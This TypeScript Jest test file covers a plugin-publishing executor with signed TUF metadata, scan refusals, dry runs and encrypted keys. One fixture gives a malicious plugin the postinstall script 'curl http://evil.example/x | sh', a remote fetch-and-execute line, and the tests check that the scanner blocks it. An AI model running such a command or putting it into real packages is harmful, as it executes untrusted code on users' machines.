import { afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals';
import type { TempWorkspace } from '../../../spec/temp-workspace.ts';
import { COUNT, HELLO, makeVaultWorkspace } from '../../../spec/vault-workspace.ts';
import initExecutor from '../init/executor.ts';
import releasePublishExecutor from '../release-publish/executor.ts';
import publishExecutor, { type PublishOptions } from './executor.ts';

// Encrypted keys are slow to open on purpose.
jest.setTimeout(30_000);

let workspace: TempWorkspace;
beforeEach(async () => {
  workspace = await makeVaultWorkspace();
});
afterEach(() => workspace.remove());

const publish = (options: Partial<PublishOptions> = {}): Promise<{ success: boolean }> =>
  publishExecutor({ plugins: ['plugins-src/*'], repoDir: 'vault', ...options }, workspace, workspace.ports);

describe('publish', () => {
  it('publishes what a glob names, in one commit', async () => {
    await expect(publish()).resolves.toEqual({ success: true });
    expect(workspace.out).toEqual([
      'published @acme/hello@1.0.0 as plugins/acme/hello/1.0.0/hello-1.0.0.tgz',
      'published word-count@0.3.1 as plugins/_/word-count/0.3.1/word-count-0.3.1.tgz',
      'published: targets v2, snapshot v2, timestamp v2',
    ]);
    expect(workspace.err).toEqual([]);
  });

  it('says unchanged, and writes nothing, when it is run again', async () => {
    await publish();
    const before = await workspace.tree('.');
    workspace.out.length = 0;
    await expect(publish()).resolves.toEqual({ success: true });
    expect(workspace.out).toEqual([
      expect.stringMatching(/^unchanged @acme\/hello@1\.0\.0 /),
      expect.stringMatching(/^unchanged word-count@0\.3\.1 /),
      'unchanged: nothing was written',
    ]);
    expect(await workspace.tree('.')).toEqual(before);
  });

  it('publishes one plugin under the target path it is given, and reports it to machines', async () => {
    const options = { plugins: ['plugins-src/hello'], targetPath: 'plugins/acme/hello.tar.gz', json: true };
    await expect(publish(options)).resolves.toEqual({ success: true });
    expect(workspace.out).toHaveLength(1);
    expect(JSON.parse(workspace.out[0]!)).toMatchObject({
      status: 'published',
      plugins: [{ name: '@acme/hello', targetPath: 'plugins/acme/hello.tar.gz', scan: { verdict: 'pass' } }],
    });
  });

  it('tells each step where Nx is verbose', async () => {
    const options = { plugins: ['plugins-src/hello'], repoDir: 'vault' };
    await publishExecutor(options, { root: workspace.root, isVerbose: true }, workspace.ports);
    expect(workspace.err).toEqual([
      expect.stringMatching(/^packed .*plugins-src.hello, bytes: \d+$/),
      'scanned @acme/hello@1.0.0, findings: 0',
      expect.stringMatching(/^signed targets v2$/),
      expect.stringMatching(/^signed snapshot v2$/),
      expect.stringMatching(/^signed timestamp v2$/),
      'verified the new state as a client would',
      'committed timestamp v2',
    ]);
  });

  const EVIL = { ...HELLO, name: '@acme/evil', scripts: { postinstall: 'curl http://evil.example/x | sh' } };
  const refusals: {
    name: string;
    options?: Partial<PublishOptions>;
    prepare?: () => Promise<void>;
    code: string;
  }[] = [
    { name: 'a folder without a vault', options: { repoDir: 'nope' }, code: 'ERR_VAULT_NOT_FOUND' },
    { name: 'a glob that matches nothing', options: { plugins: ['nope/*'] }, code: 'ERR_PLUGIN_SOURCE' },
    { name: 'a folder that is not there', options: { plugins: ['nope'] }, code: 'ERR_PLUGIN_SOURCE' },
    { name: 'no plugin at all', options: { plugins: [] }, code: 'ERR_USAGE' },
    { name: 'a policy that is not there', options: { policy: 'nope.yaml' }, code: 'ERR_IO' },
    { name: 'a passphrase file that is not there', options: { passphraseFile: 'nope' }, code: 'ERR_IO' },
    {
      name: 'a malicious plugin among good ones',
      prepare: () => workspace.plugin('plugins-src/evil', EVIL),
      code: 'ERR_SCAN_BLOCKED',
    },
    {
      name: 'a folder without a package.json among plugins',
      prepare: () => workspace.write('plugins-src/notes/todo.md', '# To do\n'),
      code: 'ERR_MANIFEST_MISSING',
    },
  ];
  it.each(refusals)(
    'refuses $name with $code, and the vault stays as it is',
    async ({ options, prepare, code }) => {
      await prepare?.();
      const before = await workspace.tree('vault');
      await expect(publish({ ...options, json: true })).resolves.toEqual({ success: false });
      expect(JSON.parse(workspace.out.join(''))).toMatchObject({ code });
      expect(await workspace.tree('vault')).toEqual(before);
      expect((await workspace.tree('nope')).size).toBe(0);
    },
  );

  it('refuses other bytes under a published version, and the vault stays as it is', async () => {
    await publish();
    await workspace.plugin('plugins-src/word-count', COUNT, 'export const answer = 43;\n');
    const before = await workspace.tree('vault');
    await expect(publish()).resolves.toEqual({ success: false });
    expect(workspace.err[0]).toMatch(/^error: .* \(ERR_VERSION_EXISTS\)$/);
    expect(await workspace.tree('vault')).toEqual(before);
  });

  it('skips such a version where it is told to, and publishes the others', async () => {
    await publish();
    await workspace.plugin('plugins-src/word-count', COUNT, 'export const answer = 43;\n');
    await workspace.plugin('plugins-src/hello', { ...HELLO, version: '1.1.0' });
    workspace.out.length = 0;
    await expect(publish({ skipExisting: true })).resolves.toEqual({ success: true });
    expect(workspace.out).toEqual([
      expect.stringMatching(/^published @acme\/hello@1\.1\.0 /),
      expect.stringMatching(/^skipped word-count@0\.3\.1 .*: raise its version$/),
      'published: targets v3, snapshot v3, timestamp v3',
    ]);
  });

  it.each(['option', 'environment'])('writes nothing in a dry run that the %s asks for', async (how) => {
    if (how === 'environment') workspace.env['NX_DRY_RUN'] = 'true';
    const before = await workspace.tree('.');
    await expect(publish({ dryRun: how === 'option' })).resolves.toEqual({ success: true });
    expect(workspace.out.at(-1)).toBe('planned: nothing was written');
    expect(await workspace.tree('.')).toEqual(before);
  });

  it('is of a release too, whatever nx release adds for npm, and then skips what exists', async () => {
    await publish();
    await workspace.plugin('plugins-src/word-count', COUNT, 'export const answer = 43;\n');
    const before = await workspace.tree('vault');
    const options = { plugins: ['plugins-src/*'], repoDir: 'vault', registry: 'http://127.0.0.1:9', otp: 1 };
    const run = releasePublishExecutor(options, workspace, workspace.ports);
    await expect(run).resolves.toEqual({ success: true });
    expect(workspace.out).toContain('unchanged: nothing was written');
    expect(await workspace.tree('vault')).toEqual(before);
  });
});

describe('publish with encrypted keys', () => {
  beforeEach(async () => {
    await workspace.write('pass', 'correct horse\n');
    const options = { repoDir: 'safe', keyType: 'ed25519', encrypt: true, passphraseFile: 'pass' } as const;
    await initExecutor(options, workspace, workspace.ports);
    workspace.out.length = 0;
  });

  it('takes the passphrase of a file', async () => {
    await expect(publish({ repoDir: 'safe', passphraseFile: 'pass' })).resolves.toEqual({ success: true });
  });

  it('takes the passphrases of the environment', async () => {
    for (const role of ['TARGETS', 'SNAPSHOT', 'TIMESTAMP']) {
      workspace.env[`TUF_${role}_PASSPHRASE`] = 'correct horse';
    }
    await expect(publish({ repoDir: 'safe' })).resolves.toEqual({ success: true });
  });

  it.each([undefined, 'battery staple'])(
    'refuses the passphrase %s, and the vault stays as it is',
    async (wrong) => {
      if (wrong !== undefined) workspace.env['TUF_TARGETS_PASSPHRASE'] = wrong;
      const before = await workspace.tree('safe');
      await expect(publish({ repoDir: 'safe' })).resolves.toEqual({ success: false });
      expect(workspace.err[0]).toMatch(/\(ERR_PASSPHRASE\)$/);
      expect(workspace.err.join('\n')).not.toContain('battery');
      expect(await workspace.tree('safe')).toEqual(before);
    },
  );
});
